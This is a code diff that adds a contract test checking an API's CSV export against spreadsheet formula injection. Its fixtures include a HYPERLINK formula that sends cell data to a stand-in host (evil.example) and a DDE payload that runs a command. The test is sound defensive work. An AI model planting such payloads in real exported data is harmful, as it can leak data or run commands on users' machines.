@@ -2,6 +2,8 @@
  * The contract of API v1, over real HTTP against the local server. It is written once and run
  * against each engine: whatever runs the SQL, a client sees the same answers and the same errors.
  */
+
+import { parse as parseCsv } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { z } from 'zod';
 import { QUERIES } from '../../src/queries/catalog.js';
@@ -216,6 +218,30 @@ export const defineContractSuite = (engine: string, target: ContractTarget) => {
         );
         expect(lines).toHaveLength(3);
         expect(lines[2]).toContain('"74bd84b4-6729-4895-b2a4-e2beb7c6b377"');
+      });
+    });
+
+    describe('CSV for spreadsheets', () => {
+      it('neutralizes every cell a spreadsheet would run as a formula, and only in the CSV', async () => {
+        const run = await runToEnd(base, {
+          query: 'events',
+          parameters: { eventNames: ['GetCallerIdentity'] },
+          from: '2024-03-06T00:00:00Z',
+          to: '2024-03-07T00:00:00Z',
+          accounts: ['111122223333'],
+        });
+        // The JSON pages keep the values as recorded.
+        expect(run.rows.map((r) => r.user_agent)).toContain(
+          '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        );
+        const link = await call(base, 'GET', `/v1/executions/${run.execution.body.executionId}/csv`);
+        const cells = parseCsv(await (await (target.download ?? fetch)(link.body.url)).text()).flat();
+        expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
+        expect(cells).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+        expect(cells).toContain("'+cmd");
+        expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual(
+          [],
+        );
       });
     });
 
